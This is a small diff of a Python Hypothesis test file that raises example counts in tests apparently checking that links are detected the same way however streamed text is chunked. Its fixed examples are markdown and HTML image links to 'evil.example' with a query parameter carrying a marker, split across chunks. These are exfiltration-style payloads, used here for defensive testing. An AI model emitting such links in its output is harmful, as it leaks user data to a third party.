@@ -195,7 +195,7 @@ TEXTS = st.lists(PIECES, max_size=16).map("".join)
 
 
 @given(TEXTS, st.data())
-@settings(max_examples=80)
+@settings(max_examples=200)
 def test_any_chunking_finds_the_same_links(text: str, data: st.DataObject) -> None:
     cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=10)))
     chunks = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
@@ -215,7 +215,7 @@ def restores(texts: list[str]) -> list[bool]:
 
 
 @given(st.lists(TEXTS, min_size=2, max_size=4))
-@settings(max_examples=80)
+@settings(max_examples=200)
 @example(["![x](https://evil.example/?q=", MARK + ")"])
 @example(["<im", "g src=", '"', f"https://evil.example/?q= {MARK}"])
 @example(["![x]", "(", "//evil.example/?", "", f"a {MARK} {MARK})"])
